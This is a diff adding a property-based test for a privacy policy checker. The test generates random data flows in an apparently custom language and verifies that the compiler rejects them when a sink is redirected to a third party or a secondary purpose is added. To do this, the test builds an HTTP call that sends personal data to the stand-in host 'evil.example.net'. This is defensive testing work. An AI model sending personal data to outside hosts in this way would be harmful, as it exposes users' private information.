@@ -1,0 +1,233 @@
+/**
+ * The policy checker's promise, as a property: take a generated flow that `jig check` passes,
+ * redirect one of its sinks to a third party, or give the flow a secondary purpose; whenever that
+ * sink's value depends, by data or by control, on a category the new destination or purpose may
+ * not receive, the result must fail. What a sink depends on is worked out here, from the generated
+ * program itself (which trigger fields each value reads, which conditions each step runs under),
+ * independently of the compiler's analysis.
+ */
+import fc from 'fast-check';
+import { describe, expect, test } from 'vitest';
+import { join } from 'node:path';
+import { compileText } from '../../compiler/src/compilation.js';
+import { NO_PROJECT_SETTINGS, type ProjectSettings } from '../../compiler/src/policy/destinations.js';
+import { fixtures, loadPolicyFile } from './helpers.js';
+
+const policy = loadPolicyFile(join(fixtures, 'fixtures.policy.yaml')).policy!;
+/** The client's own API, where every sink of a generated flow sends: the platform. */
+const project: ProjectSettings = { ...NO_PROJECT_SETTINGS, hosts: ['internal.example.com'] };
+
+/** The request's fields and their categories; `items` is a list of records. */
+const FIELDS = {
+  a: 'business.transaction',
+  b: 'business.industry',
+  p: 'personal.name',
+  m: 'personal.minor',
+} as const;
+type Field = keyof typeof FIELDS;
+const ITEM_FIELDS = { q: 'business.transaction', s: 'personal.contact' } as const;
+type ItemField = keyof typeof ITEM_FIELDS;
+
+/** What a value or a step depends on: trigger fields (`a`) and item fields (`items.q`). */
+type Deps = ReadonlySet<string>;
+
+interface Program {
+  readonly fields: readonly Field[];
+  readonly withItems: boolean;
+  readonly steps: readonly Step[];
+}
+
+type Expr =
+  | { kind: 'field'; field: Field }
+  | { kind: 'literal' }
+  | { kind: 'let'; index: number }
+  | { kind: 'concat'; left: Expr; right: Expr }
+  | { kind: 'item'; field: ItemField };
+
+type Step =
+  | { kind: 'let'; value: Expr }
+  | { kind: 'sink'; value: Expr }
+  | { kind: 'if'; condition: Expr; body: readonly Step[] }
+  | { kind: 'stop'; condition: Expr }
+  | { kind: 'loop'; body: readonly Step[] };
+
+const expr = (fields: readonly Field[], inLoop: boolean): fc.Arbitrary<Expr> =>
+  fc.letrec<{ expr: Expr }>((tie) => ({
+    expr: fc.oneof(
+      { depthSize: 'small' },
+      fc.constantFrom(...fields).map((field): Expr => ({ kind: 'field', field })),
+      fc.constant<Expr>({ kind: 'literal' }),
+      fc.nat(6).map((index): Expr => ({ kind: 'let', index })),
+      ...(inLoop ? [fc.constantFrom<ItemField>('q', 's').map((field): Expr => ({ kind: 'item', field }))] : []),
+      fc.record({ kind: fc.constant('concat' as const), left: tie('expr'), right: tie('expr') }),
+    ),
+  })).expr;
+
+const steps = (fields: readonly Field[], withItems: boolean, depth: number, inLoop: boolean): fc.Arbitrary<Step[]> => {
+  const e = expr(fields, inLoop);
+  const options: fc.Arbitrary<Step>[] = [
+    e.map((value): Step => ({ kind: 'let', value })),
+    e.map((value): Step => ({ kind: 'sink', value })),
+    e.map((condition): Step => ({ kind: 'stop', condition })),
+  ];
+  if (depth > 0) {
+    options.push(fc.record({ kind: fc.constant('if' as const), condition: e, body: steps(fields, withItems, depth - 1, inLoop) }));
+    if (withItems && !inLoop) options.push(fc.record({ kind: fc.constant('loop' as const), body: steps(fields, withItems, depth - 1, true) }));
+  }
+  return fc.array(fc.oneof(...options), { minLength: 1, maxLength: 6 });
+};
+
+const program: fc.Arbitrary<Program> = fc
+  .record({ fields: fc.subarray(Object.keys(FIELDS) as Field[], { minLength: 1 }), withItems: fc.boolean() })
+  .chain(({ fields, withItems }) => steps(fields, withItems, 2, false).map((body) => ({ fields, withItems, steps: body })));
+
+interface Rendered {
+  readonly text: string;
+  /** For each sink, in source order: the line it sends from, and what its value and conditions depend on. */
+  readonly sinks: { readonly deps: Deps; readonly marker: string }[];
+}
+
+/**
+ * The program as Jig source, and the oracle: the dependencies of every sink. A let names earlier
+ * lets only (a later index reads a literal); a `stop` is `if C { fail }`, which every later step
+ * then depends on; a loop's body depends on every field of the items it runs over.
+ */
+function render(p: Program, mutate: { purpose?: string; redirect?: number } = {}): Rendered {
+  const lines: string[] = [];
+  const sinks: { deps: Deps; marker: string }[] = [];
+  const lets: { name: string; deps: Deps }[] = [];
+  const itemDeps = new Set(Object.keys(ITEM_FIELDS).map((f) => `items.${f}`));
+  const text = (e: Expr): { code: string; deps: Set<string> } => {
+    switch (e.kind) {
+      case 'field':
+        return { code: `trigger.body.${e.field}`, deps: new Set([e.field]) };
+      case 'literal':
+        return { code: '"x"', deps: new Set() };
+      case 'let': {
+        const known = lets[e.index];
+        return known ? { code: known.name, deps: new Set(known.deps) } : { code: '"y"', deps: new Set() };
+      }
+      case 'item':
+        return { code: `it.${e.field}`, deps: new Set([`items.${e.field}`]) };
+      case 'concat': {
+        const left = text(e.left);
+        const right = text(e.right);
+        return { code: `"\${${left.code}}-\${${right.code}}"`, deps: new Set([...left.deps, ...right.deps]) };
+      }
+    }
+  };
+  let named = 0;
+  const emit = (body: readonly Step[], indent: string, inherited: Set<string>): Set<string> => {
+    let stops = new Set<string>();
+    const scopeStart = lets.length;
+    for (const step of body) {
+      const around = new Set([...inherited, ...stops]);
+      switch (step.kind) {
+        case 'let': {
+          const value = text(step.value);
+          const name = `v${named++}`;
+          lines.push(`${indent}let ${name} = ${value.code}`);
+          lets.push({ name, deps: value.deps });
+          break;
+        }
+        case 'sink': {
+          const value = text(step.value);
+          const index = sinks.length;
+          const host = mutate.redirect === index ? 'evil.example.net' : 'internal.example.com';
+          const marker = `s${index}`;
+          lines.push(`${indent}call http post "https://${host}/${marker}" body { v: ${value.code} }`);
+          sinks.push({ deps: new Set([...value.deps, ...around]), marker });
+          break;
+        }
+        case 'stop': {
+          const condition = text(step.condition);
+          lines.push(`${indent}if ${condition.code} == "stop" {`, `${indent}  fail "stopped"`, `${indent}}`);
+          stops = new Set([...stops, ...condition.deps]);
+          break;
+        }
+        case 'if': {
+          const condition = text(step.condition);
+          lines.push(`${indent}if ${condition.code} == "go" {`);
+          const inner = emit(step.body, `${indent}  `, new Set([...around, ...condition.deps]));
+          lines.push(`${indent}}`);
+          if (inner.size > 0) stops = new Set([...stops, ...condition.deps, ...inner]);
+          break;
+        }
+        case 'loop': {
+          lines.push(`${indent}for each it in trigger.body.items {`);
+          const inner = emit(step.body, `${indent}  `, new Set([...around, ...itemDeps]));
+          lines.push(`${indent}}`);
+          if (inner.size > 0) stops = new Set([...stops, ...itemDeps, ...inner]);
+          break;
+        }
+      }
+    }
+    // A block's lets are not visible after it.
+    lets.length = scopeStart === 0 && indent === '  ' ? lets.length : scopeStart;
+    return stops;
+  };
+  emit(p.steps, '  ', new Set());
+  const declared = [...new Set([...p.fields.map((f) => FIELDS[f]), ...(p.withItems ? Object.values(ITEM_FIELDS) : [])])];
+  const purpose = mutate.purpose ?? 'automation';
+  const source = [
+    'type Item {',
+    ...Object.entries(ITEM_FIELDS).map(([f, c]) => `  ${f}: string @${c}`),
+    '}',
+    'type In {',
+    ...p.fields.map((f) => `  ${f}: string @${FIELDS[f]}`),
+    ...(p.withItems ? ['  items: Item[]'] : []),
+    '}',
+    '',
+    `@purpose(${purpose}, "generated")`,
+    `@data(${declared.join(', ')})`,
+    '@retain(30 days)',
+    ...(purpose === 'automation' ? [] : ['@allow(s06-opt-out, "the caller sends no opted-out record")']),
+    'flow generated {',
+    '  trigger http post body In',
+    ...lines,
+    '}',
+    '',
+  ].join('\n');
+  return { text: source, sinks };
+}
+
+const check = (text: string) => compileText('generated.jig', text, { policy, project });
+
+/** The categories a set of dependencies stands for. */
+function categoriesOf(deps: Deps): string[] {
+  return [...deps].map((dep) => (dep.startsWith('items.') ? ITEM_FIELDS[dep.slice(6) as ItemField] : FIELDS[dep as Field]));
+}
+
+describe('a flow that passes keeps the policy when its data goes elsewhere', () => {
+  test('redirecting a sink to a third party fails whenever the sink depends on categorised data', () => {
+    fc.assert(
+      fc.property(program, fc.nat(), (p, pick) => {
+        const base = render(p);
+        fc.pre(base.sinks.length > 0 && !check(base.text).hasErrors);
+        const index = pick % base.sinks.length;
+        const sink = base.sinks[index]!;
+        const redirected = check(render(p, { redirect: index }).text);
+        if (categoriesOf(sink.deps).length > 0) {
+          expect(
+            redirected.diagnostics.some((d) => d.severity === 'error' && (d.code === 'JIG3301' || d.code === 'JIG3901')),
+            `${render(p, { redirect: index }).text}\nsink ${sink.marker} depends on ${[...sink.deps].join(', ')}`,
+          ).toBe(true);
+        }
+      }),
+      { numRuns: 150 },
+    );
+  });
+
+  test('a secondary purpose fails whenever a sink depends on raw data', () => {
+    fc.assert(
+      fc.property(program, (p) => {
+        const base = render(p);
+        fc.pre(base.sinks.length > 0 && !check(base.text).hasErrors);
+        const secondary = render(p, { purpose: 'analytics' });
+        const raw = base.sinks.some((sink) => categoriesOf(sink.deps).length > 0);
+        if (raw) expect(check(secondary.text).hasErrors, secondary.text).toBe(true);
+      }),
+      { numRuns: 150 },
+    );
+  });
+});
